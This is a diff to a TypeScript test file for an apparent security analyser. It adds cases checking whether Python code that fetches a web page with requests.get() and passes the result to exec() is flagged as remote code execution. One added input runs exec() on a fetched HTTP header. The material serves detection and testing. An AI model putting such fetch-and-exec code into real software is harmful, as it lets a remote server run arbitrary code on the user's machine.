@@ -388,6 +388,18 @@ const requestCases: readonly Case[] = [
     'fetched requests.get() -> code-execution',
   ),
   given(
+    'a header of a page',
+    'import requests\nexec(requests.get("https://example.com").headers["X-Note"])',
+    'fetched requests.get() -> code-execution',
+  ),
+  {
+    ...given(
+      'plain headers of a page',
+      'import requests\npage = requests.get("https://example.com")\nexec(page.headers.get("Content-Type") + page.status_code)',
+    ),
+    none: ['fetched requests.get() -> code-execution'],
+  },
+  given(
     'what a page says to a session',
     `
 import aiohttp
